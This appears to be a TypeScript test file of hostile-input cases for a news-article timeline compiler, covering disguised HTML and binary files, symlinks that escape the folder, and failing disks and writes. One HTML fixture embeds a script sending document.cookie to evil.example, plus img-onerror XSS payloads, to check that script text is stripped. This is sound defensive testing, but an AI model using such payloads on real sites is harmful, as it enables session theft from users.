/** Hostile files: wrong content for the name, links, junk, permissions, output placement, failing disks, kills. */
import { spawn, spawnSync } from 'node:child_process';
import * as fs from 'node:fs/promises';
import * as os from 'node:os';
import * as path from 'node:path';
import { nodeWriteFileSystem, type WriteFileSystem } from '../io/atomic-write';
import { runBuild } from '../io/build';
import { readBounded } from '../io/read-file';
import { CONTROL_ARTICLE, ENGLISH_ARTICLE } from './articles';
import { buildSandbox, guarded, invariants, makeSandbox, readOutput, singleFileCase, TSX_LOADER, type CaseResult, type HostileCase } from './harness';

const PAGE = `<!DOCTYPE html>
<html lang="en"><head><meta charset="utf-8"><title>Port deal | Halden Herald</title>
<meta property="article:published_time" content="2025-04-14T08:00:00+02:00">
<script>document.location='https://evil.example/?c='+document.cookie</script></head>
<body><nav><a href="/">Home</a> &gt; <a href="/politics">Politics</a></nav>
<article><h1>Senator criticises port deal</h1>
<p>Senator Marcus Odell warned on Monday that the new port agreement would "hurt local workers" and called for a vote in the assembly.</p>
<p>"This deal was negotiated behind closed doors," Odell told reporters outside the assembly building in Halden City.</p>
<img src=x onerror="alert(1)"></article><footer>© Halden Herald</footer></body></html>`;

const MARKUP_ARTICLE = `Hackers hide code in comments

Researchers said on Monday that attackers posted <img src=x onerror=alert(1)> and <script>alert("x")</script> in comment boxes of several sites.
`;

function failingWriter(code: string, after = 0): WriteFileSystem {
  let calls = 0;
  const fail = (): never => {
    throw Object.assign(new Error(`${code}: simulated`), { code });
  };
  return {
    ...nodeWriteFileSystem,
    open: code === 'EACCES' ? async () => fail() : nodeWriteFileSystem.open,
    write: async (...args) => {
      calls += 1;
      if (calls > after) fail();
      return nodeWriteFileSystem.write(...args);
    },
  };
}

async function failedWrite(writeFs: WriteFileSystem): Promise<CaseResult> {
  return guarded(async () => {
    const sandbox = await makeSandbox({ 'a.txt': ENGLISH_ARTICLE });
    try {
      const outcome = await buildSandbox(sandbox, { writeFs });
      const problems = await invariants(sandbox, outcome);
      if (!outcome.failure || /\n/.test(outcome.failure)) problems.push('no one-line failure message');
      return { outcome: outcome.written ? 'processed' : 'failed', problems };
    } finally {
      await sandbox.cleanup();
    }
  });
}

export const fileCases: HostileCase[] = [
  {
    id: 'binary-txt',
    group: 'files',
    title: 'binary file named .txt',
    expected: 'skipped',
    run: () => singleFileCase({ 'photo.txt': new Uint8Array(Array.from({ length: 4096 }, (_, i) => (i * 7919) % 256)) }, 'photo.txt'),
  },
  {
    id: 'html-as-txt',
    group: 'files',
    title: 'a full HTML page saved as .txt is read as HTML',
    expected: 'processed',
    run: () =>
      singleFileCase({ 'page.txt': PAGE }, 'page.txt', (o) => {
        const doc = o.timeline?.documents.find((d) => d.path === 'page.txt');
        const problems: string[] = [];
        if (!doc?.text.includes('Senator Marcus Odell warned on Monday')) problems.push('the article text was not extracted');
        if (/<\/?(p|script|nav|article)\b|document\.cookie/.test(doc?.text ?? '')) problems.push('markup or script text survived');
        if (doc?.published !== '2025-04-14') problems.push('the meta publication day was not used');
        return problems;
      }),
  },
  {
    id: 'deeply-nested-html',
    group: 'files',
    title: 'a page nested 200,000 elements deep is refused before parsing',
    expected: 'skipped',
    run: () => singleFileCase({ 'deep.html': `<html><body>${'<div>'.repeat(200_000)}<p>Text.</p>${'</div>'.repeat(200_000)}</body></html>` }, 'deep.html'),
  },
  {
    id: 'markup-in-prose',
    group: 'files',
    title: 'an article that talks about markup keeps it as literal text',
    expected: 'processed',
    run: () =>
      singleFileCase({ 'm.txt': MARKUP_ARTICLE }, 'm.txt', (o) =>
        o.timeline?.documents.find((d) => d.path === 'm.txt')?.text.includes('<img src=x onerror=alert(1)>') ? [] : ['the markup was not kept as literal text'],
      ),
  },
  {
    id: 'symlink-outside',
    group: 'files',
    title: 'symlink pointing outside the folder',
    expected: 'skipped',
    run: () =>
      guarded(async () => {
        const sandbox = await makeSandbox({});
        const secret = path.join(sandbox.root, 'secret.txt');
        try {
          await fs.writeFile(secret, 'Private notes\n\nNot for publication.\n');
          await fs.symlink(secret, path.join(sandbox.docs, 'leak.txt'));
          const outcome = await buildSandbox(sandbox);
          const problems = await invariants(sandbox, outcome);
          if ((await readOutput(sandbox)).includes('Not for publication')) problems.push('the outside file was read');
          const { endingOf } = await import('./harness');
          return { outcome: endingOf(outcome, 'leak.txt'), problems };
        } finally {
          await sandbox.cleanup();
        }
      }),
  },
  {
    id: 'symlink-loop',
    group: 'files',
    title: 'symlink loops',
    expected: 'skipped',
    run: () =>
      guarded(async () => {
        const sandbox = await makeSandbox({ 'sub/a.txt': ENGLISH_ARTICLE });
        try {
          await fs.symlink(sandbox.docs, path.join(sandbox.docs, 'sub', 'loop'));
          await fs.symlink(path.join(sandbox.docs, 'self.txt'), path.join(sandbox.docs, 'self.txt'));
          const outcome = await buildSandbox(sandbox);
          const problems = await invariants(sandbox, outcome);
          const { endingOf } = await import('./harness');
          const endings = [endingOf(outcome, 'sub/loop'), endingOf(outcome, 'self.txt')];
          return { outcome: endings.every((e) => e === 'skipped') ? 'skipped' : 'wrong', problems };
        } finally {
          await sandbox.cleanup();
        }
      }),
  },
  {
    id: 'junk-files',
    group: 'files',
    title: 'junk files (.DS_Store, ~ backups) ignored with info',
    expected: 'skipped',
    run: () =>
      singleFileCase({ '.DS_Store': new Uint8Array([0, 0, 0, 1, 66, 117, 100, 49]), 'draft.txt~': ENGLISH_ARTICLE, 'Thumbs.db': 'x' }, 'draft.txt~', (o) =>
        ['.DS_Store', 'Thumbs.db'].flatMap((p) => (o.diagnostics.some((d) => d.document === p && d.severity === 'info') ? [] : [`${p} not reported`])),
      { severities: ['info'] }),
  },
  {
    id: 'unreadable-file',
    group: 'files',
    title: 'unreadable file (EACCES)',
    expected: 'skipped',
    run: () =>
      singleFileCase({ 'locked.txt': ENGLISH_ARTICLE }, 'locked.txt', () => [], {
        build: {
          // Tests may run as root, where chmod 000 does not stop a read: simulate the denial.
          readFile: async (absolute, max) => {
            if (absolute.endsWith('locked.txt')) throw Object.assign(new Error('EACCES: permission denied'), { code: 'EACCES' });
            return readBounded(absolute, max);
          },
        },
      }),
  },
  {
    id: 'output-inside-input',
    group: 'files',
    title: 'output folder inside the input folder: compiling again changes nothing',
    expected: 'processed',
    run: () =>
      guarded(async () => {
        const problems: string[] = [];
        for (const out of ['docs/out/timeline.json', 'docs/timeline.json']) {
          const sandbox = await makeSandbox({ 'a.txt': ENGLISH_ARTICLE });
          try {
            const outputs: string[] = [];
            for (let run = 0; run < 2; run++) {
              const outcome = await runBuild({ cwd: sandbox.root, docsDir: 'docs', outFile: out, dataDir: 'data', cache: null, compilerVersion: 'hostile' });
              if (!outcome.written) problems.push(`build to ${out} failed`);
              outputs.push(await fs.readFile(path.join(sandbox.root, out), 'utf8'));
              if (outcome.timeline?.documents.some((d) => !['a.txt', 'control.txt'].includes(d.path))) problems.push(`${out}: the output was read as input`);
              if (outcome.diagnostics.some((d) => /timeline/.test(d.document ?? ''))) problems.push(`${out}: the output files were reported as input`);
            }
            if (outputs[0] !== outputs[1]) problems.push(`${out}: compiling again changed the output`);
          } finally {
            await sandbox.cleanup();
          }
        }
        return { outcome: problems.length === 0 ? 'processed' : 'wrong', problems: [...new Set(problems)] };
      }),
  },
  {
    id: 'unwritable-output',
    group: 'files',
    title: 'unwritable output folder (EACCES)',
    expected: 'failed',
    run: () => failedWrite(failingWriter('EACCES')),
  },
  {
    id: 'output-under-a-file',
    group: 'files',
    title: 'output path under a regular file (ENOTDIR)',
    expected: 'failed',
    run: () =>
      guarded(async () => {
        const sandbox = await makeSandbox({ 'a.txt': ENGLISH_ARTICLE });
        try {
          const outcome = await buildSandbox(sandbox, { outFile: 'out/timeline.json/inner.json' });
          const problems = (await readOutput(sandbox)) === sandbox.previous ? [] : ['the previous file changed'];
          return { outcome: outcome.written ? 'processed' : outcome.failure ? 'failed' : 'wrong', problems };
        } finally {
          await sandbox.cleanup();
        }
      }),
  },
  {
    id: 'disk-full',
    group: 'files',
    title: 'full disk (ENOSPC while writing)',
    expected: 'failed',
    run: () => failedWrite(failingWriter('ENOSPC', 0)),
  },
  {
    id: 'killed-mid-write',
    group: 'files',
    title: 'process killed mid-write: readers see the old file, never a prefix',
    expected: 'failed',
    run: () =>
      guarded(async () => {
        const sandbox = await makeSandbox({ 'a.txt': ENGLISH_ARTICLE });
        try {
          const child = spawn(process.execPath, ['--import', TSX_LOADER, path.join(import.meta.dirname, 'slow-build.fixture.ts'), sandbox.root], { stdio: ['ignore', 'pipe', 'pipe'] });
          await new Promise<void>((resolve, reject) => {
            child.stdout.on('data', (chunk: Buffer) => {
              if (chunk.toString().includes('writing')) resolve();
            });
            child.on('exit', (code) => reject(new Error(`the slow build exited (${code}) before writing`)));
          });
          const problems: string[] = [];
          for (let i = 0; i < 10; i++) if ((await readOutput(sandbox)) !== sandbox.previous) problems.push('a reader saw a partial file');
          child.kill('SIGKILL');
          await new Promise((resolve) => child.on('exit', resolve));
          if ((await readOutput(sandbox)) !== sandbox.previous) problems.push('the previous file changed');
          // The next build sweeps the killed writer's temporary file and succeeds.
          const next = await buildSandbox(sandbox);
          problems.push(...(await invariants(sandbox, next)));
          return { outcome: 'failed', problems: [...new Set(problems)] };
        } finally {
          await sandbox.cleanup();
        }
      }),
  },
  {
    id: 'cli-clean-errors',
    group: 'files',
    title: 'CLI: missing folder and bad options end in one line, no stack trace',
    expected: 'failed',
    run: () =>
      guarded(async () => {
        const root = await fs.mkdtemp(path.join(os.tmpdir(), 'hostile-cli-'));
        try {
          const cli = path.resolve(import.meta.dirname, '../cli.ts');
          const problems: string[] = [];
          for (const args of [['--docs', 'nope', '--out', 'o/t.json'], ['--bogus'], ['--max-file-size', 'lots']]) {
            const run = spawnSync(process.execPath, ['--import', TSX_LOADER, cli, ...args], { cwd: root, encoding: 'utf8' });
            const output = `${run.stdout}${run.stderr}`;
            if (run.status === 0) problems.push(`${args.join(' ')} exited 0`);
            if (/^\s+at /m.test(output) || /Error:.*\n\s+at /.test(output)) problems.push(`${args.join(' ')} printed a stack trace`);
          }
          await fs.mkdir(path.join(root, 'docs'));
          await fs.writeFile(path.join(root, 'docs', 'control.txt'), CONTROL_ARTICLE);
          const ok = spawnSync(process.execPath, ['--import', TSX_LOADER, cli, '--docs', 'docs', '--out', 'o/t.json', '--no-cache'], { cwd: root, encoding: 'utf8' });
          if (ok.status !== 0) problems.push(`a good build exited ${ok.status}`);
          if (!/^\d+ documents, \d+ events, \d+ quotes, \d+ warnings, \d+ errors$/m.test(ok.stdout)) problems.push('no summary line');
          return { outcome: 'failed', problems };
        } finally {
          await fs.rm(root, { recursive: true, force: true });
        }
      }),
  },
];
